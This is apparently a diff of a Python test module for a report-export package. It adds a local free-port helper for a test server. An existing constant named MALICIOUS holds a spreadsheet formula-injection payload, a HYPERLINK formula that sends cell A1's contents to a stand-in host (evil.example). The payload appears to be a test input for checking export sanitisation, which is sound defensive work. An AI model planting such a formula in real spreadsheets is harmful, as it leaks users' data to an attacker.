@@ -8,10 +8,18 @@ quality -> report.
 from __future__ import annotations
 
 import datetime as dt
+import socket
 
 from exports.model import Headline, ProgressRow, QualitySummary, ReportData
 
 MALICIOUS = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'
+
+
+def free_port() -> int:
+    """A TCP port free on 127.0.0.1 right now (for a test server)."""
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return s.getsockname()[1]
 
 
 def _row(task, ind, name, sector, status, colour, label, **kw) -> ProgressRow:
